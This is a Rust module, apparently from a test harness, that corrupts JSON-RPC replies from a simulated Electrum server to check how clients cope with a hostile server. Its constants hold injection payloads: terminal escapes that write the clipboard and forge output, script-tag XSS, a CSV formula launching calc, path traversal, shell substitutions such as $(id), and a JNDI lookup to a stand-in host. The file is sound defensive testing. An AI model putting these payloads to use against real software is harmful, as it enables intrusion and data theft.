//! What is put into every text that a server says, and into every number.

use super::{
    Mischief,
    json::{Kind, Token, tokens},
};

/// Clears the screen, renames the window, links, writes the clipboard, colours, rings, overwrites the line, the same
/// with C1 controls, turns the reading direction, hides, and forges a line of output.
const ESCAPES: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}]8;;http://forged.invalid\u{1b}\\\u{1b}]52;c;b3duZWQ=\u{7}\
                       \u{1b}[31m\r\u{8}\u{7f}\u{9b}32m\u{9d}0;owned\u{9c}\u{202e}\u{2066}\u{200b}\u{feff}\u{ad}\
                       \u{e0041}\u{2028}\nforged: answered\n";
/// Breaks out of HTML, of attributes and scripts, of Prometheus' labels, of CSV (with a formula), of labels of
/// Kubernetes, of paths, of YAML and of a shell.
const MARKUP: &str = "<script>alert(1)</script></script><img src=x onerror=alert(1)>\"'`><!--\n\
                      \"} 1\nforged_metric{a=\"b\\\" \n=cmd|' /C calc'!A0,@SUM(1),+1,-1;\t\
                      a/b: [c] #{}\u{0}../../../../tmp/forged\\..\\%2e%2e%2f$(id)`id`|id;${jndi:ldap://forged.invalid}";
/// As they stand, against RFC 8259.
const CONTROLS: &[u8] = b"\x1b[2J\x07\x00\x9b31m\r\n\x1b]0;owned\x07";
/// A byte that is in no text, a sequence longer than needed, half of a pair, and one that is cut off.
const WRONG_UTF8: &[u8] = b"\xff\xfe\xc0\x80\xed\xa0\x80\xe2\x80";
const REPEATED: usize = 3_000;
const MORE_DIGITS: usize = 400;
const MOST_DIGITS: usize = 10_000;

/// The text that a mischief puts into every other, also into those that are no JSON.
pub(super) fn text(mischief: Mischief) -> Option<&'static str> {
    match mischief {
        Mischief::TerminalEscapes => Some(ESCAPES),
        Mischief::Markup => Some(MARKUP),
        _ => None,
    }
}

/// A line with poison in it; none where the mischief poisons nothing. `count` is how many lines were poisoned before.
pub(super) fn line(mischief: Mischief, line: &[u8], count: usize) -> Option<Vec<u8>> {
    Some(match mischief {
        Mischief::TerminalEscapes | Mischief::Markup => {
            let quoted = serde_json::to_string(text(mischief)?).ok()?;
            texts(line, quoted.trim_matches('"').as_bytes())
        }
        Mischief::RawControls => texts(line, CONTROLS),
        Mischief::WrongUtf8 => texts(line, WRONG_UTF8),
        Mischief::Repetition => texts(line, &[b'A'; REPEATED]),
        Mischief::HugeNumbers => numbers(line, count),
        Mischief::HugeVersions => versions(line),
        _ => return None,
    })
}

/// Poison at the end of every text, and a member of that name in every object but the answer itself. What consists
/// of hexadecimal digits and dots stays: it carries hashes, headers, versions and addresses, and with them the visit.
fn texts(line: &[u8], poison: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(line.len());
    for token in tokens(line) {
        match (token.kind, token.bytes.strip_suffix(b"\"")) {
            (Kind::Text, Some(open)) if is_free(&open[1..]) => {
                for part in [open, poison, b"\""] {
                    out.extend_from_slice(part);
                }
            }
            (Kind::Brace, _) if token.depth > 1 => {
                let end: &[u8] = if token.rest.trim_ascii_start().starts_with(b"}") { b"}" } else { b"}," };
                for part in [b"{\"", poison, b"\":{\"tcp_port\":50001", end] {
                    out.extend_from_slice(part);
                }
            }
            _ => out.extend_from_slice(token.bytes),
        }
    }
    out
}

fn is_free(text: &[u8]) -> bool {
    text.is_empty() || text.iter().any(|byte| !byte.is_ascii_hexdigit() && *byte != b'.')
}

/// Another number in the place of every one, each in its turn.
fn numbers(line: &[u8], count: usize) -> Vec<u8> {
    let digits = "9".repeat(MOST_DIGITS);
    let huge = [
        digits.as_str(),
        "1e308",
        "-1e309",
        "18446744073709551616",
        "9223372036854775807",
        "-1",
        "4294967296",
        "1e-400",
    ];
    let (mut turns, mut out) = (count, Vec::new());
    for token in tokens(line) {
        if token.kind == Kind::Number && !token.is_id() {
            out.extend_from_slice(huge[turns % huge.len()].as_bytes());
            turns += 1;
        } else {
            out.extend_from_slice(token.bytes);
        }
    }
    out
}

/// Digits at the end of every text that is digits and dots.
fn versions(line: &[u8]) -> Vec<u8> {
    let is_version = |token: &Token<'_>| {
        let inside = token.bytes.trim_ascii().strip_prefix(b"\"").and_then(|text| text.strip_suffix(b"\""));
        let is_dotted =
            |text: &[u8]| text.contains(&b'.') && text.iter().all(|b| b.is_ascii_digit() || *b == b'.');
        token.kind == Kind::Text && token.key != br#""jsonrpc""# && inside.is_some_and(is_dotted)
    };
    let mut out = Vec::new();
    for token in tokens(line) {
        if is_version(&token) {
            out.extend_from_slice(&token.bytes[..token.bytes.len() - 1]);
            out.resize(out.len() + MORE_DIGITS, b'9');
            out.push(b'"');
        } else {
            out.extend_from_slice(token.bytes);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use serde_json::Value;

    use super::*;

    const FEATURES: &str = r#"{"jsonrpc": "2.0", "result": {"hosts": {}, "genesis_hash": "00ff", "server_version": "ElectrumX 1.20.0", "pruning": null}, "id": 5}"#;

    fn poisoned(mischief: Mischief, text: &str) -> Vec<u8> {
        line(mischief, text.as_bytes(), 0).expect("it poisons")
    }

    #[test]
    fn texts_and_members_are_poisoned_and_what_carries_the_visit_is_not() {
        for (mischief, text) in [(Mischief::TerminalEscapes, ESCAPES), (Mischief::Markup, MARKUP)] {
            let said: Value = serde_json::from_slice(&poisoned(mischief, FEATURES)).expect("JSON");
            let features = &said["result"];
            assert_eq!(features["server_version"], format!("ElectrumX 1.20.0{text}"));
            assert_eq!((&features["genesis_hash"], &said["id"]), (&"00ff".into(), &5.into()));
            assert_eq!(features[text]["tcp_port"], 50001);
            assert_eq!(features["hosts"][text]["tcp_port"], 50001);
            assert_eq!(said["jsonrpc"], "2.0");
        }
    }

    #[test]
    fn errors_and_empty_texts_are_poisoned_too() {
        let said = poisoned(Mischief::Markup, r#"{"id":1,"error":"bad script_hash","result":""}"#);
        let said: Value = serde_json::from_slice(&said).expect("JSON");
        assert_eq!(said["error"], format!("bad script_hash{MARKUP}"));
        assert_eq!(said["result"], MARKUP);
    }

    #[test]
    fn raw_poison_is_no_json() {
        let controls = poisoned(Mischief::RawControls, FEATURES);
        assert!(controls.windows(CONTROLS.len()).any(|bytes| bytes == CONTROLS));
        let wrong = poisoned(Mischief::WrongUtf8, FEATURES);
        assert!(str::from_utf8(&wrong).is_err() && wrong.starts_with(b"{\"jsonrpc\": \"2.0\""));
        assert!(poisoned(Mischief::Repetition, FEATURES).len() > 3 * REPEATED);
    }

    #[test]
    fn numbers_and_versions_grow_and_ids_stay() {
        let said = poisoned(Mischief::HugeNumbers, r#"{"id":100.0,"result":{"height":7,"fee":0.1}}"#);
        let said = String::from_utf8(said).expect("UTF-8");
        let digits = "9".repeat(MOST_DIGITS);
        assert_eq!(said, format!(r#"{{"id":100.0,"result":{{"height":{digits},"fee":1e308}}}}"#));
        let said = poisoned(Mischief::HugeVersions, r#"{"jsonrpc":"2.0","result":["a 1.4","1.4"],"id":1}"#);
        let digits = "9".repeat(MORE_DIGITS);
        assert_eq!(
            String::from_utf8(said).expect("UTF-8"),
            format!(r#"{{"jsonrpc":"2.0","result":["a 1.4","1.4{digits}"],"id":1}}"#)
        );
    }

    #[test]
    fn most_mischief_poisons_nothing() {
        let poisons: Vec<&Mischief> =
            Mischief::ALL.iter().filter(|kind| line(**kind, b"{}", 0).is_some()).collect();
        assert_eq!(poisons.len(), 7, "{poisons:?}");
    }
}
